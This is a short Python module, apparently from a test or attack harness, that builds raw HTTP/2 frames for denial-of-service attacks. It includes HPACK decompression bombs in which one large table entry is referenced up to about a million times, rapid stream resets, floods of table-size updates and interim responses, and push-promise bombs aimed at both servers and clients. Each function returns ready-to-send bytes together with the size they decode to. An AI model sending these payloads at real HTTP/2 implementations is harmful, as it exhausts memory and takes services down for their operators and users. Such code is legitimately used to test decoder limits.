"""HTTP/2 by hand: the bombs, as bytes that are made once and sent as fast as they are taken."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PUSH, PING, CONTINUATION = 0, 1, 3, 4, 5, 6, 9
END_STREAM, END_HEADERS = 1, 4
REFERENCE = bytes([0x80 | 62])
"""The field that was last put into the table, in one byte."""


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    length = len(value)
    if length < 127:
        return bytes([length]) + value
    rest, out = length - 127, [127]
    while rest >= 128:
        out.append(rest & 127 | 128)
        rest >>= 7
    return bytes(out + [rest]) + value


def literal(name, value):
    return b"\x00" + text(name) + text(value)


LARGE = b"\x40" + text(b"x") + text(b"b" * 4000)
"""A field of 4033 bytes that goes into the table."""
WEIGHT = 4033
HEAD = literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", b"/nothing") + literal(b":authority", b"x")
STATUS = b"\x88"


def block(stream, payload, flags=END_STREAM):
    """A header block of any length, in frames of 16 KiB."""
    parts = [payload[at:at + 16384] for at in range(0, len(payload), 16384)] or [b""]
    out = []
    for index, part in enumerate(parts):
        last = END_HEADERS if index == len(parts) - 1 else 0
        out.append(frame(HEADERS if index == 0 else CONTINUATION, (flags if index == 0 else 0) | last, stream, part))
    return b"".join(out)


# What each bomb sends for one stream: the bytes, and what they decode to.

def trailers(stream):
    return block(stream, HEAD, 0) + block(stream, LARGE + REFERENCE * 78), 79 * WEIGHT


def heads(stream):
    return block(stream, HEAD + LARGE + REFERENCE * 78), 79 * WEIGHT


def references(stream):
    return block(stream, HEAD + LARGE + REFERENCE * 1_160_000), 1_160_001 * WEIGHT


def ignored(stream):
    return block(stream, HEAD + literal(b"Upper", b"x") + LARGE + REFERENCE * 900), 901 * WEIGHT


def table_sizes(stream):
    return block(stream, b"\x20" * 900 + HEAD), 0


def resets(stream):
    return block(stream, HEAD) + frame(RESET, 0, stream, struct.pack(">I", 8)), 0


CLIENTS = {each.__name__: each for each in (trailers, heads, references, ignored, table_sizes, resets)}


def late_trailers(stream):
    return block(stream, STATUS, 0) + block(stream, LARGE + REFERENCE * 1_000_000), 1_000_001 * WEIGHT


def interim(stream):
    one = frame(HEADERS, END_HEADERS, stream, literal(b":status", b"103") + LARGE + REFERENCE * 14)
    return one * 2000, 2000 * 15 * WEIGHT


def large_head(stream):
    return block(stream, STATUS + LARGE + REFERENCE * 1_000_000), 1_000_001 * WEIGHT


def pushes(stream):
    one = frame(PUSH, END_HEADERS, stream, struct.pack(">I", 2) + HEAD + LARGE + REFERENCE * 900)
    return one * 100, 100 * 901 * WEIGHT


EXECUTORS = {each.__name__: each for each in (late_trailers, interim, large_head, pushes)}
